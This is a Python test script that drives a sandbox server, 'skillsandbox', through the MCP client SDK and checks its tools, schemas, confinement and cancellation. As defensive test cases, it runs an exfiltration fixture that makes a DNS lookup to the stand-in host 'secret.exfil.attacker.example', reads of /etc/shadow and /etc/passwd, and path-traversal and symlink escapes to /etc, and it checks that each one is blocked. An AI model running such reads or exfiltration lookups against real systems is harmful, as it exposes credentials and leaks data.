#!/usr/bin/env python3
"""Drive `skillsandbox serve` with the official MCP Python SDK as a real client.

Usage: SKILLSANDBOX_BIN=/path/to/skillsandbox python3 tests/mcp/test_mcp.py

Prints one line per check ("ok - ..." or "FAIL - ...") and exits non-zero if any
check failed. The skill fixtures in tests/mcp/skills are copied to a temporary
directory first, which becomes the server's --skills-dir (plus a symlink that points
out of it, to prove escapes are refused).
"""

from __future__ import annotations

import json
import os
import shutil
import sys
import tempfile
import time
import traceback
import uuid
from pathlib import Path
from typing import Any

import anyio
from mcp import ClientSession, StdioServerParameters
from mcp.client.stdio import stdio_client

HERE = Path(__file__).resolve().parent
EXFIL_NAME = "secret.exfil.attacker.example"
EXPECTED_TOOLS = {
    "run_skill",
    "exec_command",
    "validate_skill",
    "inspect_skill",
    "list_skills",
    "session_status",
}
CANCEL_DEADLINE_S = 5.0

failures: list[str] = []


def check(name: str, cond: bool, detail: Any = "") -> bool:
    if cond:
        print(f"ok - {name}", flush=True)
    else:
        failures.append(name)
        text = detail if isinstance(detail, str) else json.dumps(detail, indent=1, default=str)
        print(f"FAIL - {name}\n    {text[:3000]}", flush=True)
    return cond


def text_of(result) -> str:
    return "\n".join(getattr(c, "text", "") for c in result.content)


def marker_pids(marker: str) -> list[int]:
    """Host processes whose command line contains `marker` (excluding ourselves)."""
    found = []
    needle = marker.encode()
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                if needle in f.read():
                    found.append(int(entry))
        except OSError:
            continue
    return found


def layer_names(structured: dict) -> set[str]:
    return {layer.get("layer") for layer in structured.get("enforcement", [])}


async def wait_for(predicate, timeout: float, interval: float = 0.1) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return True
        await anyio.sleep(interval)
    return predicate()


async def scenario(session: ClientSession, skills: Path, version: str | None) -> None:
    runs = 0

    # --- initialize ------------------------------------------------------------
    init = await session.initialize()
    check(
        "initialize: serverInfo is skillsandbox" + (f" {version}" if version else ""),
        init.server_info.name == "skillsandbox"
        and (version is None or init.server_info.version == version),
        init.server_info.model_dump(),
    )
    check(
        "initialize: newest protocol version with a handshake (2025-11-25)",
        init.protocol_version == "2025-11-25",
        init.protocol_version,
    )
    check("initialize: tools capability", init.capabilities.tools is not None)

    # --- tools and schemas -----------------------------------------------------
    listed = await session.list_tools()
    tools = {t.name: t for t in listed.tools}
    check("tools/list: all six tools", set(tools) == EXPECTED_TOOLS, sorted(tools))
    for name, tool in sorted(tools.items()):
        check(
            f"tools/list: {name} has a documented input schema and an output schema",
            tool.input_schema.get("type") == "object"
            and bool(tool.description)
            and tool.output_schema is not None
            and tool.output_schema.get("type") == "object",
            {"input": tool.input_schema, "output": tool.output_schema},
        )
    props = tools["exec_command"].input_schema.get("properties", {})
    check(
        "tools/list: exec_command arguments described",
        {"command", "workdir", "allow_domains", "read", "write", "env", "timeout_s", "memory_mb"}
        <= set(props)
        and all(p.get("description") for p in props.values())
        and tools["exec_command"].input_schema.get("required") == ["command"],
        tools["exec_command"].input_schema,
    )
    check(
        "tools/list: run_skill output schema names violations and trace",
        {"exit_code", "termination", "violations", "enforcement", "usage", "trace_id", "trace_path"}
        <= set(tools["run_skill"].output_schema.get("properties", {})),
        tools["run_skill"].output_schema,
    )

    # --- list_skills -----------------------------------------------------------
    res = await session.call_tool("list_skills", {})
    found = {s["name"]: s for s in (res.structured_content or {}).get("skills", [])}
    check(
        "list_skills: manifest skills, the broken one and the SKILL.md agent skill",
        not res.is_error
        and {"hello", "exfil", "sleeper", "broken", "notes"} <= set(found)
        and found["hello"]["runnable"] == "manifest"
        and found["broken"]["runnable"] == "no"
        and found["notes"]["kind"] == "agent_skill"
        and found["notes"]["runnable"] == "deny_all_defaults"
        and "Counts the lines" in (found["notes"]["description"] or ""),
        res.model_dump(),
    )

    # --- a benign skill --------------------------------------------------------
    res = await session.call_tool("run_skill", {"skill": "hello", "args": ["world"]})
    runs += 1
    s = res.structured_content or {}
    check(
        "run_skill hello: exit 0 with structured stdout and no violations",
        not res.is_error
        and s.get("exit_code") == 0
        and s.get("termination") == "exited"
        and "hello from the sandbox: world" in s.get("stdout", "")
        and s.get("violations") == []
        and s.get("stdout_truncated") is False
        and bool(s.get("trace_id")),
        res.model_dump(),
    )
    check(
        "run_skill hello: enforcement report and written trace",
        all(l.get("status") == "enforced" for l in s.get("enforcement", []))
        and {"user_namespace", "seccomp", "landlock"} <= layer_names(s)
        and s.get("trace_path")
        and Path(s["trace_path"]).is_file(),
        s.get("enforcement"),
    )
    check(
        "run_skill hello: readable text block",
        "exit 0" in text_of(res) and "hello from the sandbox" in text_of(res),
        text_of(res),
    )

    # --- DNS exfiltration -------------------------------------------------------
    res = await session.call_tool("run_skill", {"skill": "exfil"})
    runs += 1
    s = res.structured_content or {}
    check(
        "run_skill exfil: the DNS lookup failed (no breach); isError with a structured result",
        res.is_error
        and s.get("exit_code") not in (0, None)
        and "LEAKED" not in s.get("stdout", "")
        and "failed" in s.get("stdout", ""),
        res.model_dump(),
    )
    dns_blocks = [
        v for v in s.get("violations", []) if v.get("kind") == "dns_blocked" and EXFIL_NAME in v.get("detail", "")
    ]
    check(
        f"run_skill exfil: {EXFIL_NAME} is among the violations (dns_blocked) and the DNS records",
        bool(dns_blocks)
        and any(
            d.get("name") == EXFIL_NAME and d.get("decision") == "blocked"
            for d in s.get("network", {}).get("dns", [])
        )
        and EXFIL_NAME in text_of(res)
        and "BLOCKED dns_blocked" in text_of(res),
        res.model_dump(),
    )

    # --- broken manifest --------------------------------------------------------
    res = await session.call_tool("validate_skill", {"path": "broken"})
    s = res.structured_content or {}
    errs = s.get("errors", [])
    check(
        "validate_skill broken: ok false with the error's line (5) and field",
        s.get("ok") is False
        and any(e.get("line") == 5 and "permisions" in (e.get("field", "") + e.get("message", "")) for e in errs),
        res.model_dump(),
    )
    res = await session.call_tool("validate_skill", {"path": "hello"})
    check(
        "validate_skill hello: ok",
        (res.structured_content or {}).get("ok") is True
        and (res.structured_content or {}).get("skill", {}).get("name") == "hello",
        res.model_dump(),
    )
    res = await session.call_tool("inspect_skill", {"path": "hello/skillsandbox.yaml"})
    pol = (res.structured_content or {}).get("policy", {})
    check(
        "inspect_skill hello: resolved policy (skill dir absolute, no egress)",
        not res.is_error
        and pol.get("skill_dir") == str(skills / "hello")
        and pol.get("network", {}).get("egress") == [],
        res.model_dump(),
    )
    res = await session.call_tool("run_skill", {"skill": "broken"})
    check(
        "run_skill broken: refused as a tool error naming the line",
        res.is_error and ":5:" in text_of(res),
        res.model_dump(),
    )

    # --- paths outside the skills dir ------------------------------------------
    for label, args in [
        ("absolute path", {"path": "/etc"}),
        ("../ escape", {"path": "../../../../../etc"}),
        ("symlink escape", {"path": "escape"}),
    ]:
        res = await session.call_tool("validate_skill", args)
        check(
            f"validate_skill refuses a path outside the skills dir ({label})",
            res.is_error and "outside the skills directories" in text_of(res),
            res.model_dump(),
        )
    res = await session.call_tool("run_skill", {"skill": "/etc"})
    check(
        "run_skill refuses a path outside the skills dir",
        res.is_error and "outside the skills directories" in text_of(res),
        res.model_dump(),
    )
    res = await session.call_tool("list_skills", {"directory": "/"})
    check("list_skills refuses a directory outside the skills dir", res.is_error, res.model_dump())

    # --- exec_command, confined -------------------------------------------------
    res = await session.call_tool(
        "exec_command", {"command": ["sh", "-c", "id -u; cat /proc/self/uid_map"]}
    )
    runs += 1
    s = res.structured_content or {}
    lines = s.get("stdout", "").split("\n")
    uid_map = lines[1].split() if len(lines) > 1 else []
    check(
        "exec_command: uid 0 inside maps to a non-root host uid",
        not res.is_error
        and lines[0] == "0"
        and len(uid_map) == 3
        and uid_map[0] == "0"
        and uid_map[1] != "0",
        res.model_dump(),
    )
    res = await session.call_tool("exec_command", {"command": ["cat", "/etc/shadow"]})
    runs += 1
    s = res.structured_content or {}
    check(
        "exec_command: cat /etc/shadow fails (isError, non-zero exit, nothing read)",
        res.is_error and s.get("exit_code") not in (0, None) and "root:" not in s.get("stdout", ""),
        res.model_dump(),
    )
    res = await session.call_tool(
        "exec_command",
        {"command": ["python3", "-c", f"import socket; socket.getaddrinfo({EXFIL_NAME!r}, 443)"]},
    )
    runs += 1
    s = res.structured_content or {}
    check(
        "exec_command without allow_domains: a DNS lookup fails (no network at all)",
        res.is_error and s.get("exit_code") not in (0, None) and "gaierror" in s.get("stderr", ""),
        res.model_dump(),
    )
    out_dir = skills.parent / "out" / "job"
    res = await session.call_tool(
        "exec_command",
        {
            "command": ["sh", "-c", f"echo confined > {out_dir}/result.txt"],
            "write": [str(out_dir)],
        },
    )
    runs += 1
    check(
        "exec_command: a write grant inside the operator ceiling works",
        not res.is_error and (out_dir / "result.txt").read_text() == "confined\n",
        res.model_dump(),
    )
    res = await session.call_tool("exec_command", {"command": ["cat", "/etc/passwd"], "read": ["/etc"]})
    check(
        "exec_command: a read grant beyond the operator ceiling is refused",
        res.is_error and "ceiling" in text_of(res) and "/etc" in text_of(res),
        res.model_dump(),
    )
    res = await session.call_tool("exec_command", {"command": ["true"], "memory_mb": 100000})
    check(
        "exec_command: memory beyond the ceiling is refused naming memory_mb",
        res.is_error and "memory_mb" in text_of(res),
        res.model_dump(),
    )

    # --- agent skill (SKILL.md, no manifest) -----------------------------------
    res = await session.call_tool("run_skill", {"skill": "notes", "args": ["sh", "scripts/count.sh"]})
    runs += 1
    s = res.structured_content or {}
    check(
        "run_skill notes (SKILL.md only): runs under deny-all defaults",
        not res.is_error and s.get("stdout", "").strip() == "3",
        res.model_dump(),
    )

    # --- cancel a long run (and run other calls meanwhile) ----------------------
    marker = f"skillsandbox-mcp-test-{uuid.uuid4().hex}"
    outcome: dict[str, Any] = {}

    async def long_call() -> None:
        try:
            outcome["result"] = await session.call_tool(
                "run_skill", {"skill": "sleeper", "args": [marker]}
            )
        except BaseException as e:  # noqa: BLE001 - cancellation is the expected path
            outcome["error"] = e
            raise

    async with anyio.create_task_group() as tg:
        tg.start_soon(long_call)
        started = await wait_for(lambda: bool(marker_pids(marker)), 30)
        check("cancel: the sleeper's sandboxed process is visible on the host", started)
        status = await session.call_tool("session_status", {})
        check(
            "concurrency: session_status answers while a run is in flight (running = 1)",
            (status.structured_content or {}).get("running") == 1,
            status.model_dump(),
        )
        res = await session.call_tool("exec_command", {"command": ["echo", "parallel"]})
        runs += 1
        check(
            "concurrency: exec_command completes while the sleeper runs",
            not res.is_error and (res.structured_content or {}).get("stdout") == "parallel\n" and bool(marker_pids(marker)),
            res.model_dump(),
        )
        t0 = time.monotonic()
        tg.cancel_scope.cancel()  # the SDK sends notifications/cancelled for the request
    runs += 1
    gone = await wait_for(lambda: not marker_pids(marker), CANCEL_DEADLINE_S)
    check(
        f"cancel: no host process with the marker {CANCEL_DEADLINE_S:.0f} s after notifications/cancelled "
        f"(gone after {time.monotonic() - t0:.2f} s)",
        gone and "result" not in outcome,
        {"survivors": marker_pids(marker), "outcome": str(outcome)},
    )

    # --- session_status ---------------------------------------------------------
    async def status_settled():
        st = (await session.call_tool("session_status", {})).structured_content or {}
        return st

    st = await status_settled()
    deadline = time.monotonic() + 10
    while st.get("running") and time.monotonic() < deadline:
        await anyio.sleep(0.2)
        st = await status_settled()
    check(
        f"session_status: {runs} runs counted, the cancelled one among them, dns_blocked counted, budgets null",
        st.get("runs") == runs
        and st.get("cancelled_runs") == 1
        and st.get("running") == 0
        and st.get("failed_runs", 0) >= 3
        and st.get("state") == "active"
        and st.get("violations_by_kind", {}).get("dns_blocked", 0) >= 1
        and st.get("budgets") is None
        and bool(st.get("session_id")),
        st,
    )


async def discover_probe(params: StdioServerParameters) -> None:
    """A second connection on the newest protocol revision (no handshake)."""
    async with stdio_client(params) as (read, write):
        async with ClientSession(read, write) as session:
            result = await session.discover()
            check(
                "server/discover: newest protocol revision 2026-07-28 supported",
                "2026-07-28" in result.supported_versions,
                result.model_dump(),
            )
            res = await session.call_tool("session_status", {})
            check(
                "2026-07-28: tools/call works without a handshake",
                not res.is_error and bool((res.structured_content or {}).get("session_id")),
                res.model_dump(),
            )


async def main() -> int:
    binary = os.environ.get("SKILLSANDBOX_BIN") or shutil.which("skillsandbox")
    if not binary:
        print("FAIL - set SKILLSANDBOX_BIN to the skillsandbox binary", flush=True)
        return 1
    version = os.environ.get("SKILLSANDBOX_VERSION")
    with tempfile.TemporaryDirectory(prefix="skillsandbox-mcp-") as tmp:
        base = Path(tmp).resolve()
        skills = base / "skills"
        shutil.copytree(HERE / "skills", skills)
        (skills / "escape").symlink_to("/etc")
        state = base / "state"
        env = {
            "XDG_STATE_HOME": str(state),
            "SKILLSANDBOX_AUDIT_LOG": str(state / "audit.jsonl"),
        }
        params = StdioServerParameters(
            command=binary,
            args=[
                "serve",
                "--skills-dir",
                str(skills),
                "--session",
                "mcp-python-test",
                "--ceiling-write",
                str(base / "out"),
            ],
            env=env,
            cwd=str(base),
        )
        try:
            with anyio.fail_after(300):
                async with stdio_client(params) as (read, write):
                    async with ClientSession(read, write) as session:
                        await scenario(session, skills, version)
                await discover_probe(params)
        except Exception:  # noqa: BLE001 - report, then fail
            traceback.print_exc()
            check("the scenario ran to the end", False, traceback.format_exc())
    print(f"{'FAILED' if failures else 'PASSED'}: {len(failures)} failure(s)", flush=True)
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(anyio.run(main))
